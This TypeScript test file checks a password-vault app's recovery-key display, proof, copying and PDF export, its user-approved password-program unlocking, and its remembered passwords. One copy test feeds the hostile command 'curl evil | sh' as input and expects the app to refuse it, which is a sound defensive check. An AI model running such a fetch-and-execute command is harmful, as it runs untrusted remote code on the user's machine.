/** The whole app without a window: recovery keys, and passwords that are not typed. */

import { readFile, stat } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it, vi } from "vitest";
import type { VaultId } from "../../src-shared/model/vault-summary.ts";
import { appOnComputer, password } from "../test-support/app-on-computer.ts";
import { patient } from "../test-support/patient.ts";

const { computer, ask, newVault, add, stateOf, restart } = appOnComputer();

describe("the recovery key", () => {
  it("is told to who knows the password, and to nobody else", async () => {
    const id = await add(await newVault("Taxes"));
    const shown = await ask("recovery-key.show", { id, password });
    if (!shown.ok) throw new Error("not shown");
    expect(shown.value.words).toHaveLength(44);
    expect(shown.value.words.every((word) => /^[a-z]+$/.test(word))).toBe(true);
    expect(await ask("recovery-key.show", { id, password: "guess" })).toEqual({
      ok: false,
      failure: { kind: "wrong-password" },
    });
  });

  it("is proved by three of its words, which is on the disk then; not by others, nor twice", async () => {
    const id = await add(await newVault("Taxes"));
    const shown = await ask("recovery-key.show", { id, password });
    if (!shown.ok) throw new Error("not shown");
    const { words, asked } = shown.value;
    const right = asked.map((place) => ` ${words[place - 1]?.toUpperCase() ?? ""}`);
    const wrong = right.with(1, "another");
    expect(await ask("recovery-key.prove", { id, typed: wrong })).toEqual({
      ok: true,
      value: [asked[1]],
    });
    expect(computer.announced.at(-1)?.vaults[0]?.safety.recoveryKeyProvedMs).toBeNull();
    expect(await ask("recovery-key.prove", { id, typed: right })).toEqual({ ok: true, value: [] });
    expect((await ask("recovery-key.prove", { id, typed: right })).ok).toBe(false);
    await restart();
    const list = await ask("vaults.list", {});
    expect(list.ok && list.value.vaults[0]?.safety.recoveryKeyProvedMs).toBeGreaterThan(0);
  });

  it("is copied, and nothing else of the window is", async () => {
    const id = await add(await newVault("Taxes"));
    const shown = await ask("recovery-key.show", { id, password });
    if (!shown.ok) throw new Error("not shown");
    const words = shown.value.words.join(" ");
    expect((await ask("recovery-key.copy", { words: "curl evil | sh" })).ok).toBe(false);
    expect((await ask("recovery-key.copy", { words: words.toUpperCase() })).ok).toBe(true);
    expect(computer.copied).toEqual([words]);
  });

  it("is saved as a sheet where the user says, for the user's eyes only", async () => {
    const id = await add(await newVault("Taxes"));
    expect(await ask("recovery-key.save-sheet", { id, paper: "A4" })).toEqual({
      ok: true,
      value: false,
    });
    computer.saveAs = join(computer.home, "sheet.pdf");
    expect(await ask("recovery-key.save-sheet", { id, paper: "Letter" })).toEqual({
      ok: true,
      value: true,
    });
    expect(await readFile(computer.saveAs, "utf8")).toBe("%PDF Letter");
    expect((await stat(computer.saveAs)).mode & 0o077).toBe(0);
  });
});

describe("a password from a program", () => {
  const set = (id: VaultId, line: string) => ask("password-program.set", { id, line });
  const unlock = (id: VaultId, typed: string | null) =>
    ask("vault.unlock", { id, password: typed, readOnly: false, remember: false });

  it("opens the vault once the user has allowed the program, also after a restart", async () => {
    const id = await add(await newVault("Taxes"));
    computer.desktop.confirmed = { isYes: true, isMarked: false };
    expect(await set(id, `printf '%s\\n' ${password}`)).toEqual({
      ok: true,
      value: { isAllowed: true },
    });
    await restart();
    expect(await unlock(id, null)).toEqual({ ok: true, value: null });
  });

  it("comes from no program that the window has named without the user", async () => {
    const id = await add(await newVault("Taxes"));
    computer.desktop.confirmed = { isYes: false, isMarked: false };
    expect(await set(id, `printf ${password}`)).toEqual({ ok: true, value: { isAllowed: false } });
    const options: object = { passwordProgram: `printf ${password}` };
    expect(await ask("vault.set-options", { id, options })).toMatchObject({ ok: false });
    expect(await set(id, "pass | head")).toMatchObject({ ok: false });
    expect(await unlock(id, null)).toMatchObject({ failure: { kind: "saved-password-lost" } });
  });

  it("is typed where the program fails or is wrong", async () => {
    const id = await add(await newVault("Taxes"));
    computer.desktop.confirmed = { isYes: true, isMarked: false };
    await set(id, "false");
    expect(await unlock(id, null)).toEqual({
      ok: false,
      failure: { kind: "password-program-failed", program: "false", reason: "refused" },
    });
    await set(id, "printf guess");
    expect(await unlock(id, null)).toMatchObject({ failure: { kind: "wrong-password" } });
    expect(await stateOf(id)).toMatchObject({ kind: "locked" });
    expect(await unlock(id, password)).toEqual({ ok: true, value: null });
  });

  it("is waited for no longer than the user wants", async () => {
    const id = await add(await newVault("Taxes"));
    computer.desktop.confirmed = { isYes: true, isMarked: false };
    await set(id, "sleep 60");
    const unlocking = unlock(id, null);
    await vi.waitFor(async () => {
      expect(await stateOf(id)).toMatchObject({ kind: "unlocking" });
    }, patient);
    await ask("vault.stop-unlocking", { id });
    expect(await unlocking).toEqual({ ok: false, failure: { kind: "cancelled" } });
    expect(await stateOf(id)).toMatchObject({ kind: "locked" });
  });
});

describe("a remembered password", () => {
  const isSaved = async (id: VaultId): Promise<boolean | undefined> => {
    const reply = await ask("vaults.list", {});
    return reply.ok ? reply.value.vaults.find((vault) => vault.id === id)?.isPasswordSaved : false;
  };
  const unlock = async (id: VaultId, typed: string | null, remember: boolean) => {
    const reply = await ask("vault.unlock", { id, password: typed, readOnly: false, remember });
    if (reply.ok) await ask("vault.lock", { id, force: true });
    return reply;
  };

  it("opens the vault without being typed, also after a restart", async () => {
    const id = await add(await newVault("Taxes"));
    await unlock(id, password, true);
    expect(await isSaved(id)).toBe(true);
    await restart();
    expect((await unlock(id, null, false)).ok).toBe(true);
    expect(await isSaved(id)).toBe(true);
  });

  it("is not saved when it was wrong", async () => {
    const id = await add(await newVault("Taxes"));
    await unlock(id, "guess", true);
    expect(await isSaved(id)).toBe(false);
  });

  it("is forgotten when the next one is not to be remembered, on request, and with its vault", async () => {
    const path = await newVault("Taxes");
    const id = await add(path);
    await unlock(id, password, true);
    await unlock(id, password, false);
    expect(await isSaved(id)).toBe(false);
    await unlock(id, password, true);
    await ask("password.forget", { id });
    expect(await unlock(id, null, false)).toEqual({
      ok: false,
      failure: { kind: "saved-password-lost" },
    });
    await unlock(id, password, true);
    await ask("vault.remove", { id });
    const file = join(computer.home, ".config", "Latchkey", "passwords.json");
    await expect(readFile(file)).rejects.toThrow(/ENOENT/);
  });

  it("is not offered while the settings forbid it", async () => {
    expect(await ask("password.can-be-saved", {})).toEqual({ ok: true, value: true });
    await ask("settings.change", { useKeychain: false });
    expect(await ask("password.can-be-saved", {})).toEqual({ ok: true, value: false });
    const id = await add(await newVault("Taxes"));
    await unlock(id, password, true);
    expect(await isSaved(id)).toBe(false);
  });
});
